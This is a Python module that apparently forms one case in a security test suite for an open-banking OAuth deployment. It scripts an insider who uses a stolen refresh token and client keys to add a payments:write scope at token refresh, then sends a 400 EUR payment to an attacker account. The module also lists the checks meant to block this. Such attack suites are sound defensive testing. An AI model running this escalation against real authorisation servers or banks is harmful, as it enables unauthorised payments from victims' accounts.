"""scope-escalation-at-refresh: the TPP insider adds payments:write when refreshing.

The MT insider holds everything FinLens holds (attacks.md §1): the victim's refresh
token, FinLens's client credentials, DPoP key and certificate. The victim consented to
reading only; the insider refreshes asking for payments:write too, then pays mallory.
RFC 6749 §6: "The requested scope MUST NOT include any scope not originally granted".
"""

from __future__ import annotations

from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import PAYMENT_GOAL_BLOCKERS, Attack
from attacker.premises import linked_victim

EXTRA_SCOPE = "payments:write"


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    tpp = ts.tpp_identity(ctx, victim)
    held = tpp.tokens
    if not held.refresh_token:
        ctx.failed("FinLens holds no refresh token for the victim")
    wider = " ".join(dict.fromkeys([*held.scope.split(), EXTRA_SCOPE]))
    response = tpp.refresh(held.refresh_token, scope=wider,
                           what=f"POST /token grant_type=refresh_token as FinLens, "
                                f"scope=\"{wider}\"")
    tokens = ts.tokens_or_fail(ctx, response, "the AS refused the wider scope at refresh")
    listed = ts.accounts(ctx, tokens, signer=tpp.signer, http=tpp.http)
    paid = ts.pay_mallory(ctx, tokens, ts.checking_account(listed), "400.00",
                          signer=tpp.signer, http=tpp.http)
    if paid.status_code != 201:
        ctx.failed("the bank refused the payment", paid)
    ctx.succeeded("paid 400.00 EUR to mallory with a payment scope the victim never granted",
                  paid.json())


ATTACK = Attack(
    id="scope-escalation-at-refresh", attacker="MT", legs=("store",), victim="prior",
    title="Payment scope added at refresh",
    blocked_by=("refresh_scope_check",),
    premise="A FinLens insider with a copy of its database, keys and credentials; the victim "
            "granted FinLens read access only.",
    goal="a payment from the victim's account to mallory", run=run,
    refs=("RFC 6749 §6",),
    also_blocked_by={
        "consent_per_account":
            "the user consented to no payments on any account, so the bank refuses the "
            "payment per account",
        **PAYMENT_GOAL_BLOCKERS,
    },
)
